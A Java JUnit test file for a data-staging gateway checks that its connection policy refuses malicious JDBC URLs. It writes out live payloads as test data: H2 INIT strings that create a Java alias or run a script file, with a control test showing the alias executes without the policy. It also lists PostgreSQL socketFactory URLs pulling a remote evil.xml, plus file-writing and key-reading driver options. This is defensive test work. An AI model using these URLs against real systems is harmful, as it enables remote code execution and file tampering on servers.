package io.gantry.staging;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.h2.tools.Server;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * A job's own JDBC URL was a way to run Java inside the server (H2 INIT scripts, driver classes
 * named in URL options) and to create files anywhere (embedded H2 URLs). Each attack here runs the
 * staging gateway for real, under a policy that turns inline data sources on and matches every URL,
 * so that only the per-driver rules stand between the job and the attack; each checks the file
 * system for the file the attack would have written.
 */
class InlineDataSourceAttackTest {
  @TempDir Path jobDir;
  @TempDir Path elsewhere;
  Server h2Server;
  String h2Address;
  StagingGateway gateway;

  @BeforeEach
  void setUp() throws Exception {
    h2Server =
        Server.createTcpServer(
                "-tcpPort",
                "0",
                "-tcpAllowOthers",
                "-ifNotExists",
                "-baseDir",
                elsewhere.resolve("h2").toString())
            .start();
    h2Address = "127.0.0.1:" + h2Server.getPort();
    ConnectionPolicy everyUrl =
        ConnectionPolicy.of(true, List.of("**"), List.of("127.0.0.1"), List.of());
    gateway =
        new StagingGateway(
            new TestCredentials(),
            GatewayOptions.defaults().withRetries(Duration.ofMillis(500), 1, Duration.ZERO),
            everyUrl);
  }

  @AfterEach
  void tearDown() {
    gateway.close();
    h2Server.stop();
  }

  private String marker() {
    return elsewhere.resolve("pwned").toString();
  }

  /** Java that, if it ever ran in the staging JVM, would leave the marker file. */
  private String alias() {
    // in a URL every ; of the INIT value is escaped; the script file below takes them plain
    return "CREATE ALIAS PWN AS 'void pwn() throws Exception { java.nio.file.Files.writeString("
        + "java.nio.file.Path.of(\""
        + marker()
        + "\"), \"x\")\\; }'\\;CALL PWN()";
  }

  private StagingException stageIn(String url) {
    SqlExtract extract =
        new SqlExtract(
            DataSourceRef.inline(url, "sa", ""),
            1,
            "SELECT 1",
            "out.csv",
            null,
            CreationFlag.OVERWRITE,
            false);
    return assertThrows(
        StagingException.class,
        () ->
            gateway.stageIn(
                new StageInPlan(List.of(), List.of(extract)), jobDir, StagingListener.NONE));
  }

  @Test
  void anH2InitThatCreatesAJavaAliasRunsNoCode() {
    for (String url :
        List.of(
            "jdbc:h2:mem:x;INIT=" + alias(),
            "jdbc:h2:tcp://" + h2Address + "/x;INIT=" + alias(),
            "jdbc:h2:tcp://" + h2Address + "/x;init=" + alias())) {
      stageIn(url);
      assertFalse(Files.exists(Path.of(marker())), "the alias ran: " + url);
    }
    assertTrue(
        stageIn("jdbc:h2:tcp://" + h2Address + "/x;INIT=" + alias())
            .getMessage()
            .contains("INIT is not allowed: it runs SQL (and so Java) when the connection opens"));
  }

  /**
   * The control: without the rules the same URL does run the Java, so the tests above mean
   * something.
   */
  @Test
  void thePayloadIsLiveWhereNoPolicyStandsInTheWay() throws Exception {
    try (StagingGateway open =
        new StagingGateway(
            new TestCredentials(), GatewayOptions.defaults(), ConnectionPolicy.unrestricted())) {
      SqlExtract extract =
          new SqlExtract(
              DataSourceRef.inline("jdbc:h2:mem:ctl;INIT=" + alias(), "sa", ""),
              1,
              "SELECT 1",
              "out.csv",
              null,
              CreationFlag.OVERWRITE,
              false);
      open.stageIn(new StageInPlan(List.of(), List.of(extract)), jobDir, StagingListener.NONE);
    }
    assertTrue(Files.exists(Path.of(marker())));
  }

  @Test
  void anH2InitThatRunsAScriptFileRunsNothing() throws Exception {
    Path script = elsewhere.resolve("evil.sql");
    Files.writeString(script, alias().replace("\\;", ";") + ";\n");
    stageIn("jdbc:h2:tcp://" + h2Address + "/x;INIT=RUNSCRIPT FROM '" + script + "'");
    stageIn("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM '" + script + "'");
    assertFalse(Files.exists(Path.of(marker())));
  }

  @Test
  void anEmbeddedH2UrlCreatesNoDatabaseFile() throws Exception {
    Path target = elsewhere.resolve("anywhere");
    for (String url :
        List.of(
            "jdbc:h2:file:" + target + "/db",
            "jdbc:h2:" + target + "/db2",
            "jdbc:h2:split:" + target + "/db3",
            "jdbc:h2:nio:" + target + "/db4",
            "jdbc:h2:tcp://" + h2Address + "/file:" + target + "/db5",
            "jdbc:h2:tcp://"
                + h2Address
                + "/"
                + target.toString().substring(1)
                + "/db6;TRACE_LEVEL_FILE=3")) {
      StagingException e = stageIn(url);
      assertTrue(e.getMessage().contains("H2"), e.getMessage());
    }
    assertFalse(Files.exists(target), "a database was created outside the job directory");
    try (Stream<Path> files = Files.walk(elsewhere)) {
      assertEquals(
          List.of(),
          files
              .filter(f -> f.toString().contains(".mv.db") || f.toString().endsWith(".trace.db"))
              .toList());
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:x",
        "jdbc:h2:zip:/tmp/x.zip!/db",
        "jdbc:h2:tcp://192.0.2.7/db;INIT=SELECT 1",
        "jdbc:h2:tcp://192.0.2.7/db;TRACE_LEVEL_FILE=3",
        "jdbc:h2:tcp://192.0.2.7/db;TRACE_LEVEL_SYSTEM_OUT=3",
        "jdbc:h2:tcp://192.0.2.7/db;AUTO_SERVER=TRUE",
        "jdbc:h2:tcp://192.0.2.7/db;FILE_LOCK=NO",
        "jdbc:h2:tcp://192.0.2.7/db;ACCESS_MODE_DATA=rw",
        "jdbc:h2:tcp://192.0.2.7/db;USER=sa;PASSWORD=x",
        "jdbc:h2:tcp://192.0.2.7/mem:db",
        "jdbc:h2:tcp://192.0.2.7/db;MODE=PostgreSQL';x",
        "jdbc:postgresql://192.0.2.7/db?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"
            + "&socketFactoryArg=http://192.0.2.9/evil.xml",
        "jdbc:postgresql://192.0.2.7/db?sslfactory=x.Evil&sslfactoryarg=y",
        "jdbc:postgresql://192.0.2.7/db?loggerFile=/tmp/pg.log&loggerLevel=TRACE",
        "jdbc:postgresql://192.0.2.7/db?sslpasswordcallback=x.Evil",
        "jdbc:postgresql://192.0.2.7/db?authenticationPluginClassName=x.Evil",
        "jdbc:postgresql://192.0.2.7/db?sslhostnameverifier=x.Evil",
        "jdbc:postgresql://192.0.2.7/db?sslkey=/etc/ssl/private/server.key",
        "jdbc:postgresql://192.0.2.7/db?options=-c%20default_transaction_read_only=off",
        "jdbc:postgresql://192.0.2.7/db?socket%46actory=x.Evil",
        "jdbc:postgresql://192.0.2.7/db?password=x",
        "jdbc:postgresql://192.0.2.7/db?xmlFactoryFactory=x.Evil",
        "jdbc:postgresql:db",
        "jdbc:derby:memory:x;create=true",
        "jdbc:sqlite:/tmp/x.db",
        "jdbc:mysql://192.0.2.7/db?allowLoadLocalInfile=true",
      })
  void urlsThatLoadCodeOrTouchFilesAreRefused(String url) {
    ConnectionPolicy policy =
        ConnectionPolicy.of(true, List.of("**"), List.of("192.0.2.7"), List.of());
    assertTrue(policy.inlineDataSourceProblem(url).isPresent(), url);
  }

  @Test
  void aUrlNeedsAnOperatorsPattern() {
    ConnectionPolicy policy =
        ConnectionPolicy.of(
            true, List.of("jdbc:postgresql://192.0.2.7:5432/*"), List.of("192.0.2.7"), List.of());
    assertEquals(
        Optional.empty(),
        policy.inlineDataSourceProblem(
            "jdbc:postgresql://192.0.2.7:5432/market?ApplicationName=risk&sslmode=require"));
    assertEquals(
        Optional.of(
            "jdbc:postgresql://192.0.2.7:5433/market matches none of the patterns in"
                + " staging.allowed-jdbc-urls"),
        policy.inlineDataSourceProblem("jdbc:postgresql://192.0.2.7:5433/market"));
    assertTrue(
        policy.inlineDataSourceProblem("jdbc:postgresql://192.0.2.7:5432/market/x").isPresent());
    assertTrue(
        policy
            .inlineDataSourceProblem("jdbc:postgresql://192.0.2.7:5432,192.0.2.8:5432/market")
            .isPresent());
  }

  @Test
  void inlineDataSourcesAreOffUnlessTurnedOn() {
    ConnectionPolicy off =
        ConnectionPolicy.of(false, List.of("**"), List.of("192.0.2.7"), List.of());
    assertTrue(
        off.inlineDataSourceProblem("jdbc:postgresql://192.0.2.7/db")
            .orElseThrow()
            .contains("staging.inline-data-sources=false"));
  }

  @Test
  void loopbackAndLinkLocalHostsNeedAnExplicitEntry() {
    ConnectionPolicy implicitOnly =
        ConnectionPolicy.of(
            true,
            List.of("**"),
            List.of(),
            List.of(
                "jdbc:postgresql://127.0.0.1:5432/market",
                "jdbc:postgresql://192.0.2.7:5432/market"));
    assertTrue(
        implicitOnly
            .inlineDataSourceProblem("jdbc:postgresql://127.0.0.1:5432/other")
            .orElseThrow()
            .contains("loopback or link-local"));
    assertTrue(
        implicitOnly.inlineDataSourceProblem("jdbc:postgresql://169.254.169.254:80/x").isPresent());
    assertTrue(implicitOnly.inlineDataSourceProblem("jdbc:postgresql://[::1]:5432/x").isPresent());
    assertEquals(
        Optional.empty(),
        implicitOnly.inlineDataSourceProblem("jdbc:postgresql://192.0.2.7:5432/other"));
    assertTrue(
        implicitOnly.inlineDataSourceProblem("jdbc:postgresql://192.0.2.7:5433/other").isPresent());
    assertTrue(implicitOnly.hostProblem("localhost", 22).isPresent());
    ConnectionPolicy explicit =
        ConnectionPolicy.of(true, List.of("**"), List.of("127.0.0.1:2222"), List.of());
    assertEquals(Optional.empty(), explicit.hostProblem("127.0.0.1", 2222));
    assertTrue(explicit.hostProblem("127.0.0.1", 22).isPresent());
  }
}
